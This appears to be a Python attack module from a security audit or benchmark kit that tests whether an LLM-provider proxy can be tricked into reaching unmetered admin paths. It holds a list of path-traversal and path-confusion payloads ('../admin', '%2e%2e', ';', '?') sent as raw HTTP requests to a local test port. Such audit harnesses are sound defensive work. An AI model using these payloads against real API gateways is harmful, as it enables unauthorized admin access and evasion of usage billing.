"""Gets at the provider's other paths, which are neither served nor metered."""

from pacabench.audit.attacks.kit import Found, Given, found, keyed, raw_http, reported

_PATHS = (
    "/openai/v1/../admin/{}",
    "/openai/v1/%2e%2e/admin/{}",
    "/openai/v1//admin/{}",
    "/openai/admin/{}",
    "/openai/v1/chat/completions/../../admin/{}",
    "/openai/v1/chat/completions;/admin/{}",
    "/openai/v1/chat/completions?/admin/{}",
)


def attack(given: Given) -> Found:
    """See above."""
    port, word = given["lane_port"], f"path-{given['nonce']}"
    seen = {}
    for path in _PATHS:
        line = f"POST {path.format(word)} HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
        request = f"{line}{keyed()}Content-Length: 2\r\n\r\n{{}}".encode()
        seen[path] = raw_http(port, request)[:120]
    arrived = reported(port, word)
    return found(bool(arrived), arrived=arrived, answers=seen)
